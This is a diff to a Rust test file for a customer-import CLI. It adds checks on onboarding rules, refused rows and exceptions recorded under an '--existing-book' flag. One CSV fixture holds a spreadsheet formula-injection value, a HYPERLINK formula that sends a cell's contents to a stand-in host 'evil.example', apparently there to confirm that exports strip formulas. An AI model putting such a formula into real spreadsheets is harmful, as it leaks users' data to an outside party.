@@ -65,10 +65,59 @@ fn import_export_round_trip_and_bad_files_change_nothing() {
          Fabrikam Inc,,US,USD,2500.50,prospect\n",
     )
     .unwrap();
+    // The onboarding rules hold on this path: an active customer without its checks is
+    // refused on its line, and nothing is written.
     let out = cli(&db, &["customers", "import", good.to_str().unwrap()]);
+    assert!(!out.status.success());
+    assert!(
+        stderr(&out).contains("good.csv:2 field status"),
+        "{}",
+        stderr(&out)
+    );
+    assert!(!stdout(&cli(&db, &["customers", "list"])).contains("Contoso"));
+    let prepaid = dir.path().join("prepaid.csv");
+    std::fs::write(
+        &prepaid,
+        "legal_name,country,currency,status,payment_instrument
+Card Shop,TW,TWD,active,prepaid_card
+",
+    )
+    .unwrap();
+    let out = cli(&db, &["customers", "import", prepaid.to_str().unwrap()]);
+    assert!(!out.status.success());
+    assert!(
+        stderr(&out).contains("prepaid.csv:2 field payment_instrument"),
+        "{}",
+        stderr(&out)
+    );
+    // Brought in as an existing book, with a reason: each exception is recorded.
+    let out = cli(
+        &db,
+        &[
+            "customers",
+            "import",
+            good.to_str().unwrap(),
+            "--existing-book",
+            "the book as it was",
+        ],
+    );
     assert!(out.status.success(), "{}", stderr(&out));
     assert!(stdout(&out).contains("2 created"));
-    let out = cli(&db, &["customers", "import", good.to_str().unwrap()]);
+    assert!(
+        stdout(&out).contains("1 onboarding exception(s) recorded"),
+        "{}",
+        stdout(&out)
+    );
+    let out = cli(
+        &db,
+        &[
+            "customers",
+            "import",
+            good.to_str().unwrap(),
+            "--existing-book",
+            "the book as it was",
+        ],
+    );
     assert!(
         stdout(&out).contains("0 created, 0 updated, 2 unchanged"),
         "{}",
@@ -238,11 +287,18 @@ fn invoices_and_payments_import_all_or_nothing_and_idempotently() {
     assert!(cli(&db, &["init"]).status.success());
     let customers = dir.path().join("c.csv");
     std::fs::write(&customers, "legal_name,tenant_id,country,currency,payment_terms_days,status\nContoso Ltd,11111111-1111-4111-8111-111111111111,TW,TWD,30,active\n").unwrap();
-    assert!(
-        cli(&db, &["customers", "import", customers.to_str().unwrap()])
-            .status
-            .success()
-    );
+    assert!(cli(
+        &db,
+        &[
+            "customers",
+            "import",
+            customers.to_str().unwrap(),
+            "--existing-book",
+            "the book as it was"
+        ]
+    )
+    .status
+    .success());
     let invoices = dir.path().join("inv.csv");
     std::fs::write(
         &invoices,
@@ -464,7 +520,16 @@ fn partial_imports_keep_other_fields_and_exports_carry_no_formulas() {
          \"=HYPERLINK(\"\"http://evil.example\"\"&A1;\"\"click\"\")\",TW,TWD,11111111-1111-4111-8111-111111111111,150000,active,+886 2 1234 5678,@SUM(1+1)\n",
     )
     .unwrap();
-    let out = cli(&db, &["customers", "import", full.to_str().unwrap()]);
+    let out = cli(
+        &db,
+        &[
+            "customers",
+            "import",
+            full.to_str().unwrap(),
+            "--existing-book",
+            "the book as it was",
+        ],
+    );
     assert!(out.status.success(), "{}", stderr(&out));
     let partial = dir.path().join("partial.csv");
     std::fs::write(
